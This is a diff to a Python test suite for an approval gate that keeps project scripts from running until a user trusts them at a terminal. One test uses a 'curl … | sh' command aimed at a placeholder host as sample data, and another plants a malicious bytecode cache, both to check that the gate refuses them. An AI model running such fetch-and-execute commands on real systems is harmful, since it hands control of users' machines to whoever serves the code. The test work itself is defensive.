@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import json
 import re
+import subprocess
 import sys
 from pathlib import Path
 from typing import Any
@@ -19,7 +20,7 @@ from attend.conduits.sensors.host import Host, Session
 from attend.domain import config
 from attend.testing.standin import StandIn
 from attend.verbs import sensors as sensors_verb
-from tests.support import Loop, World, enroll, post, wait_until
+from tests.support import Loop, World, enroll, in_pty, post, wait_until
 
 PY = sys.executable
 
@@ -227,7 +228,7 @@ def test_a_project_script_runs_only_after_the_user_trusts_that_file(world: World
     assert "untrusted (approve" in text and str(path) in text
     loop.stop()
     assert not mark.exists()  # the loop listed it and never ran it
-    trusted = world.attend("sensors", "trust")
+    trusted = trust_at_terminal(world)
     assert trusted.returncode == 0 and f"trusted {path}" in trusted.stdout
     loop = Loop(world, s)
     loop.wait_for(lambda ls: sensor_lines(loop, "proj"), "the trusted script's line")
@@ -258,11 +259,19 @@ def trusted_file(world: World) -> Path:
     return world.home / ".config" / "attend" / "trusted.json"
 
 
+def trust_at_terminal(world: World) -> subprocess.CompletedProcess[str]:
+    """`attend sensors trust` as the human at a terminal, typing y when asked there: what the terminal
+    showed after the answer (stdout and stderr together), as a completed process."""
+    rc, shown = in_pty(world, "sensors", "trust", answer="y")
+    after = shown.split("[y/N] ", 1)[1].split("\n", 1)[-1] if "[y/N] " in shown else shown
+    return subprocess.CompletedProcess(["attend", "sensors", "trust"], rc, after, after)
+
+
 def test_a_project_script_changed_after_approval_is_untrusted_again_and_never_runs(world: World) -> None:
     ran, changed = world.tmp / "ran", world.tmp / "changed"
     ci = project_script(world, "tools/ci", f"#!/bin/sh\necho x >> {ran}\necho ci is green\n")
     project_config(world, f"sensors:\n  +ci: {script(['./tools/ci'], interval=5)}\n")
-    assert world.attend("sensors", "trust").returncode == 0
+    assert trust_at_terminal(world).returncode == 0
     s = world.session()
     loop = Loop(world, s)
     loop.wait_for(lambda ls: any("ci is green" in ln for ln in sensor_lines(loop, "ci")), "the approved run")
@@ -297,7 +306,7 @@ def test_an_approval_pins_the_script_an_interpreter_runs_and_the_target_of_a_lin
         project_script(world, module, "print('fine')\n", mode=0o644)
     argv, named = NAMED[how]
     project_config(world, f"sensors:\n  +ci: {script(argv)}\n")
-    trusted = world.attend("sensors", "trust")
+    trusted = trust_at_terminal(world)
     assert trusted.returncode == 0, trusted.stderr
     assert named in trusted.stdout, trusted.stdout  # trust prints the files it pinned
     assert sensor_row(world, "ci")["state"] == "on"
@@ -316,7 +325,7 @@ def test_a_bytecode_cache_planted_beside_an_approved_module_never_runs(world: Wo
     project_script(world, "tools/__init__.py", "", mode=0o644)
     source = project_script(world, "tools/ci.py", "print('the approved module')\n", mode=0o644)
     project_config(world, f"sensors:\n  +ci: {script(['python3', '-m', 'tools.ci'])}\n")
-    assert world.attend("sensors", "trust").returncode == 0
+    assert trust_at_terminal(world).returncode == 0
     st = source.stat()
     code = compile("print('pwned by a planted cache')", str(source), "exec")
     cache = Path(importlib.util.cache_from_source(str(source)))  # the interpreter the loop's PATH finds
@@ -334,7 +343,7 @@ def test_a_bytecode_cache_planted_beside_an_approved_module_never_runs(world: Wo
 def test_trust_refuses_a_module_run_by_a_python_that_ignores_the_environment(world: World) -> None:
     project_script(world, "tools/ci.py", "print('fine')\n", mode=0o644)
     project_config(world, f"sensors:\n  +ci: {script(['python3', '-E', '-m', 'tools.ci'])}\n")
-    out = world.attend("sensors", "trust")
+    out = trust_at_terminal(world)
     assert out.returncode == 1 and "drop -E" in out.stderr and len(out.stderr.splitlines()) == 1, out.stderr
     assert not trusted_file(world).exists()
 
@@ -346,7 +355,7 @@ def test_an_approval_from_before_c_scripts_and_modules_were_read_counts_while_it
     project_script(world, "tools/ci", "echo fine\n")
     argv = ["./tools/ci"] if pinned == "the-same-files" else ["sh", "-c", "./tools/ci --fast"]
     path = project_config(world, f"sensors:\n  +ci: {script(argv)}\n")
-    assert world.attend("sensors", "trust").returncode == 0
+    assert trust_at_terminal(world).returncode == 0
     approvals = json.loads(trusted_file(world).read_text())
     old = approvals[str(path)]["sensors"]["ci"]
     del old["pinning"]  # as an approval written before this pinning was
@@ -376,7 +385,7 @@ def test_trust_refuses_a_script_outside_the_project_or_writable_by_others(world:
         project_script(world, "tools/ci", "echo hi\n", mode=0o777)
         argv = ["./tools/ci"]
     project_config(world, f"sensors:\n  +ci: {script(argv)}\n")
-    out = world.attend("sensors", "trust")
+    out = trust_at_terminal(world)
     want = "writable by others" if where == "writable-by-others" else "outside the project"
     assert out.returncode == 1 and want in out.stderr and len(out.stderr.splitlines()) == 1, out.stderr
     assert not trusted_file(world).exists()
@@ -387,7 +396,7 @@ def test_the_listing_and_trust_print_the_exact_command_not_the_description(world
     project_config(world, f"sensors:\n  +lint: {script(argv, description='lint summary')}\n")
     listed = world.attend("sensors")
     assert "lint runs: sh -c 'curl -s https://example.invalid/x | sh'" in listed.stdout, listed.stdout
-    trusted = world.attend("sensors", "trust")
+    trusted = trust_at_terminal(world)
     assert trusted.returncode == 0
     assert "lint: sh -c 'curl -s https://example.invalid/x | sh'" in trusted.stdout, trusted.stdout
     row = sensor_row(world, "lint")
@@ -403,12 +412,12 @@ def test_an_approval_from_before_the_bytes_were_pinned_needs_approving_again(wor
     trusted_file(world).write_text(json.dumps({str(path): cfg_module.digest(path.read_text())}))
     row = sensor_row(world, "ci")
     assert row["state"] == "untrusted" and "approved before attend pinned the script's bytes" in row["why"]
-    assert world.attend("sensors", "trust").returncode == 0
+    assert trust_at_terminal(world).returncode == 0
     assert sensor_row(world, "ci")["state"] == "on"
 
 
 def test_trust_without_a_project_file_fails_and_writes_nothing(world: World) -> None:
-    out = world.attend("sensors", "trust")
+    out = trust_at_terminal(world)
     assert out.returncode == 1 and "no project config at" in out.stderr
     assert not (world.home / ".config" / "attend" / "trusted.json").exists()
 
